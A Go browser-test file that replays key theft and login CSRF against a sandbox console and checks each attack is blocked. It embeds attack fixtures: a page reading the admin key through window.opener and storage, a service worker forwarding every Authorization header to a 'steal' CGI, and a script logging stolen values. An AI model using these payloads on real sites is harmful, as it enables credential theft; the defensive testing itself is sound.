package main

// Attacks on the web console in a real browser: Debian's chromium, driven
// as console_test.go drives it, run inside the security world's network
// namespace (nsenter), so that it reaches the world's API at w.URL() and
// nothing else. Each replays what a user does: sign in by typing the key,
// click "Open (signed URL)", follow a link.

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
)

// newBrowserIn is newBrowser with chromium in the network namespace at
// netns (a path such as /run/netns/NAME).
func newBrowserIn(t *testing.T, timeout time.Duration, netns string) *browser {
	t.Helper()
	wrapper := filepath.Join(t.TempDir(), "chromium-in-netns")
	script := "#!/bin/sh\nexec nsenter --net=" + netns + " " + chromiumPath(t) + " \"$@\"\n"
	if err := os.WriteFile(wrapper, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	return startBrowser(t, timeout, wrapper)
}

// signInAs opens the console at url and signs in with key as a user does:
// typed into the form.
func (b *browser) signInAs(url, key string) {
	b.t.Helper()
	b.run("open the console", chromedp.Navigate(url), chromedp.WaitVisible(chromedp.CSS(`[data-testid=key]`)))
	b.input(`[data-testid=key]`, "")
	b.run("sign in", chromedp.SendKeys(chromedp.CSS(`[data-testid=key]`), key), chromedp.Click(chromedp.CSS(`[data-testid=signin-submit]`)))
	b.wait("signed in", `!!document.querySelector('[data-testid=tree]')`, 30*time.Second)
}

// tab waits until the browser has a page whose URL match accepts and
// returns a browser on it.
func (b *browser) tab(what string, match func(url string) bool, timeout time.Duration) *browser {
	b.t.Helper()
	deadline := time.Now().Add(timeout)
	for {
		ts, err := chromedp.Targets(b.ctx)
		if err != nil {
			b.fail("list the tabs", err)
		}
		for _, ti := range ts {
			if ti.Type == "page" && match(ti.URL) {
				ctx, cancel := chromedp.NewContext(b.ctx, chromedp.WithTargetID(ti.TargetID))
				b.t.Cleanup(cancel)
				return &browser{t: b.t, ctx: ctx, artifacts: b.artifacts}
			}
		}
		if time.Now().After(deadline) {
			var urls []string
			for _, ti := range ts {
				urls = append(urls, string(ti.Type)+" "+ti.URL)
			}
			b.fail("wait for "+what, fmt.Errorf("no such tab within %v; tabs: %v", timeout, urls))
		}
		time.Sleep(100 * time.Millisecond) // polling the browser's tabs, bounded by the deadline
	}
}

// The attacker's web site, served by busybox httpd from /tmp/www in a
// sandbox: a page that reports in its title what it could take from the
// console (through its opener, the storage and cookies of its origin, the
// API with what it found) and whether it could register a service worker
// for the whole origin; the worker's script (a CGI, to send
// Service-Worker-Allowed: /), which sends every Authorization header it
// sees to steal, a CGI that appends what it gets to /tmp/stolen.
const (
	attackPage = `<!doctype html>
<html><head><meta charset="utf-8"><title>loading</title></head>
<body><p>A page served by a sandbox.</p>
<script>
(async () => {
  const r = {};
  const found = [];
  const take = (name, f) => {
    try {
      const v = f();
      r[name] = v == null ? null : String(v);
      if (typeof v === 'string' && v.includes('panda_')) found.push(v);
    } catch (e) {
      r[name] = 'blocked:' + e.name;
    }
  };
  take('origin', () => self.origin);
  take('opener', () => (window.opener ? window.opener.sessionStorage.getItem('pandastack.key') : 'no opener'));
  take('session', () => sessionStorage.getItem('pandastack.key'));
  take('local', () => JSON.stringify(Object.assign({}, localStorage)));
  take('cookie', () => document.cookie);
  try {
    const res = await fetch('/v1/keys', { headers: { Authorization: 'Bearer ' + (found[0] || 'nothing') } });
    r.keys = String(res.status);
  } catch (e) {
    r.keys = 'blocked:' + e.name;
  }
  try {
    const reg = await navigator.serviceWorker.register('cgi-bin/sw.js', { scope: '/' });
    await navigator.serviceWorker.ready;
    r.worker = 'registered:' + reg.scope;
  } catch (e) {
    r.worker = 'blocked:' + e.name;
  }
  document.title = 'DONE ' + JSON.stringify(r);
})();
</script></body></html>
`
	workerCGI = `#!/bin/sh
printf 'Content-Type: text/javascript\r\nService-Worker-Allowed: /\r\n\r\n'
cat <<'EOF'
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const auth = e.request.headers.get('Authorization');
  if (!auth) return;
  e.respondWith((async () => {
    await fetch(new URL('steal?' + encodeURIComponent(auth), self.location).href).catch(() => {});
    return fetch(e.request);
  })());
});
EOF
`
	stealCGI = `#!/bin/sh
echo "$QUERY_STRING" >> /tmp/stolen
printf 'Content-Type: text/plain\r\n\r\nok\n'
`
)

// TestSecurityConsoleSignedURL replays the key theft of issue 31 (finding
// 1): the admin signs in to the console and opens a port of a sandbox the
// way the console offers ("Open (signed URL)"); the sandbox's page tries to
// read the key through its opener and the origin's storage, to use it, and
// to register a service worker for the whole origin that would see every
// later sign-in. It must get nothing: the page runs (its report arrives)
// but in an origin of its own, no worker is registered for the console's
// origin, and a sign-in afterwards reaches no worker. The same answers
// straight: the proxied page carries the sandbox CSP, the worker's script
// is refused.
func TestSecurityConsoleSignedURL(t *testing.T) {
	w := security(t)
	ctx, cancel := context.WithTimeout(context.Background(), 6*time.Minute)
	defer cancel()
	sb := w.sandbox(t, ctx, w.AdminKey())
	writeFile(t, ctx, sb, "/tmp/www/index.html", attackPage)
	writeFile(t, ctx, sb, "/tmp/www/cgi-bin/sw.js", workerCGI)
	writeFile(t, ctx, sb, "/tmp/www/cgi-bin/steal", stealCGI)
	mustExec(t, ctx, sb, "chmod 755 /tmp/www/cgi-bin/sw.js /tmp/www/cgi-bin/steal && busybox httpd -p 8000 -h /tmp/www")

	b := newBrowserIn(t, 5*time.Minute, w.env.Host.Path)
	url := w.URL() + "/"
	b.signInAs(url, w.AdminKey())
	b.run("open the sandbox's page", chromedp.Navigate(url+"#/sandboxes/"+sb.ID))
	b.wait("port 8000 listed", `[...document.querySelectorAll('[data-testid=ports] li')].some(l => l.textContent.includes(':8000') && l.querySelector('button'))`, time.Minute)
	nth := eval[int](b, `[...document.querySelectorAll('[data-testid=ports] li')].findIndex(l => l.textContent.includes(':8000')) + 1`)
	b.run("open port 8000", chromedp.Click(chromedp.CSS(fmt.Sprintf(`[data-testid=ports] li:nth-child(%d) button`, nth))))

	page := b.tab("the port's page", func(u string) bool { return strings.Contains(u, "/p/") }, 30*time.Second)
	page.wait("the page's report", `document.title.startsWith('DONE ')`, time.Minute)
	title := eval[string](page, `document.title`)
	t.Logf("the sandbox's page reports: %s", title)
	var report map[string]string
	if err := json.Unmarshal([]byte(strings.TrimPrefix(title, "DONE ")), &report); err != nil {
		t.Fatalf("the page's report %q: %v", title, err)
	}
	if strings.Contains(title, w.AdminKey()) {
		t.Errorf("the sandbox's page read the admin key: %s", title)
	}
	if report["keys"] == "200" {
		t.Errorf("the sandbox's page listed the keys with what it found: %s", title)
	}
	if o := report["origin"]; o != "null" {
		t.Errorf("the sandbox's page ran in origin %q, want an opaque one (null)", o)
	}
	if !strings.HasPrefix(report["worker"], "blocked:") {
		t.Errorf("the sandbox's page registered a service worker: %s", report["worker"])
	}

	// From the console's own tab: no worker for its origin, and a sign-in
	// later is seen by none.
	regs, err := chromedp.Run(b.ctx, chromedp.Evaluate[[]string](`navigator.serviceWorker.getRegistrations().then(rs => rs.map(r => r.scope))`, chromedp.EvalAwaitPromise))
	if err != nil {
		b.fail("list the service workers", err)
	}
	if len(regs) != 0 {
		t.Errorf("service workers registered for the console's origin: %v", regs)
	}
	b.run("sign out", chromedp.Click(chromedp.CSS(`[data-testid=signout]`)), chromedp.WaitVisible(chromedp.CSS(`[data-testid=key]`)))
	b.signInAs(url, w.AdminKey())
	if got := mustExec(t, ctx, sb, "cat /tmp/stolen 2>/dev/null; true"); got != "" {
		t.Errorf("a service worker saw the sign-in and sent the sandbox: %q", got)
	}

	// The same, straight: the page's and the worker's answers.
	code, body := w.mustDo(t, ctx, w.AdminKey(), "POST", "/v1/sandboxes/"+sb.ID+"/ports/8000/url", nil, nil)
	if code != http.StatusOK {
		t.Fatalf("sign a URL: %d %s", code, body)
	}
	var signed struct{ URL string }
	json.Unmarshal(body, &signed)
	signedPath := strings.TrimPrefix(signed.URL, w.URL())
	for _, path := range []string{signedPath, "/v1/sandboxes/" + sb.ID + "/ports/8000/"} {
		res := w.get(t, ctx, path, http.Header{"Authorization": {"Bearer " + w.AdminKey()}})
		if !sandboxedPage(res.Header) {
			t.Errorf("GET %s: %d, Content-Security-Policy %q, want a sandbox without allow-same-origin", path, res.StatusCode, res.Header.Values("Content-Security-Policy"))
		}
		if got := res.Header.Get("X-Content-Type-Options"); got != "nosniff" {
			t.Errorf("GET %s: X-Content-Type-Options %q, want nosniff", path, got)
		}
		// The worker's script, fetched as the page fetched it above on
		// the way in: refused before the guest; as a plain file, its
		// Service-Worker-Allowed dropped.
		sw := w.get(t, ctx, path+"cgi-bin/sw.js", http.Header{"Authorization": {"Bearer " + w.AdminKey()}, "Service-Worker": {"script"}})
		if sw.StatusCode != http.StatusForbidden {
			t.Errorf("GET %scgi-bin/sw.js as a service worker: %d, want 403", path, sw.StatusCode)
		}
		plain := w.get(t, ctx, path+"cgi-bin/sw.js", http.Header{"Authorization": {"Bearer " + w.AdminKey()}})
		if plain.StatusCode != http.StatusOK || plain.Header.Get("Service-Worker-Allowed") != "" {
			t.Errorf("GET %scgi-bin/sw.js: %d, Service-Worker-Allowed %q, want 200 without it", path, plain.StatusCode, plain.Header.Get("Service-Worker-Allowed"))
		}
	}
}

// sandboxedPage reports whether h, an answer's headers, holds a
// Content-Security-Policy with a sandbox that keeps the page out of its
// origin (no allow-same-origin).
func sandboxedPage(h http.Header) bool {
	for _, v := range h.Values("Content-Security-Policy") {
		for d := range strings.SplitSeq(v, ";") {
			// A header may hold several policies, comma-separated.
			for p := range strings.SplitSeq(d, ",") {
				f := strings.Fields(p)
				if len(f) > 0 && strings.EqualFold(f[0], "sandbox") && !strings.Contains(p, "allow-same-origin") {
					return true
				}
			}
		}
	}
	return false
}

// get sends GET path to the world's API with hdr and returns the answer,
// its body read and closed.
func (w *secWorld) get(t *testing.T, ctx context.Context, path string, hdr http.Header) *http.Response {
	t.Helper()
	req, err := http.NewRequestWithContext(ctx, "GET", w.URL()+path, nil)
	if err != nil {
		t.Fatal(err)
	}
	for k, vs := range hdr {
		req.Header[k] = vs
	}
	res, err := w.hc.Do(req)
	if err != nil {
		t.Fatalf("GET %s: %v", path, err)
	}
	defer res.Body.Close()
	io.Copy(io.Discard, io.LimitReader(res.Body, 1<<20))
	return res
}

// TestSecurityConsoleKeyLink replays a login CSRF (issue 31, finding 12):
// the admin is signed in to the console; a link to /#key=<another key>
// (which any page can send them) must not silently replace the session.
// The console asks; cancelling keeps the admin key, switching takes the
// link's. Either way the link's key leaves the address bar at once.
func TestSecurityConsoleKeyLink(t *testing.T) {
	w := security(t)
	b := newBrowserIn(t, 3*time.Minute, w.env.Host.Path)
	url := w.URL() + "/"
	b.signInAs(url, w.AdminKey())
	b.wait("the admin's pages", `!!document.querySelector('[data-testid=nav-keys]')`, 10*time.Second)
	follow := func() {
		b.t.Helper()
		b.run("follow a link with alice's key", chromedp.Navigate("about:blank"), chromedp.Navigate(url+"#key="+w.Alice))
		b.wait("the question", `!!document.querySelector('[data-testid=dialog] [data-testid=confirm]')`, 30*time.Second)
		state := eval[map[string]any](b, `({href: location.href, key: sessionStorage.getItem('pandastack.key'), text: document.querySelector('[data-testid=dialog]').textContent})`)
		if href, _ := state["href"].(string); strings.Contains(href, w.Alice) {
			t.Errorf("the link's key stayed in the address bar: %s", href)
		}
		if k, _ := state["key"].(string); k != w.AdminKey() {
			t.Errorf("while asked, the tab's key is %q, want the admin's", k)
		}
		if text, _ := state["text"].(string); strings.Contains(text, w.Alice) || strings.Contains(text, w.AdminKey()) {
			t.Errorf("the question shows a whole key: %q", text)
		}
	}
	follow()
	b.run("keep the admin key", chromedp.Click(chromedp.CSS(`[data-testid=dialog] [data-testid=cancel]`)))
	b.wait("still the admin", `!document.querySelector('[data-testid=dialog] [data-testid=confirm]') && !!document.querySelector('[data-testid=nav-keys]') && sessionStorage.getItem('pandastack.key') === `+js(w.AdminKey()), 20*time.Second)

	follow()
	b.run("switch", chromedp.Click(chromedp.CSS(`[data-testid=dialog] [data-testid=confirm]`)))
	b.wait("alice signed in", `!!document.querySelector('[data-testid=tree]') && !document.querySelector('[data-testid=nav-keys]') && sessionStorage.getItem('pandastack.key') === `+js(w.Alice), 20*time.Second)

	// Signed out (a new tab's state), a link does not sign in silently
	// either.
	b.run("sign out", chromedp.Click(chromedp.CSS(`[data-testid=signout]`)), chromedp.WaitVisible(chromedp.CSS(`[data-testid=key]`)))
	b.run("follow a link with bob's key", chromedp.Navigate("about:blank"), chromedp.Navigate(url+"#key="+w.Bob))
	b.wait("the question", `!!document.querySelector('[data-testid=dialog] [data-testid=confirm]')`, 30*time.Second)
	if none := eval[bool](b, `sessionStorage.getItem('pandastack.key') === null`); !none {
		t.Error("signed out and asked, the tab holds a key already")
	}
	b.run("refuse", chromedp.Click(chromedp.CSS(`[data-testid=dialog] [data-testid=cancel]`)))
	b.wait("still signed out", `!document.querySelector('[data-testid=dialog] [data-testid=confirm]') && !!document.querySelector('[data-testid=key]') && sessionStorage.getItem('pandastack.key') === null`, 20*time.Second)
}
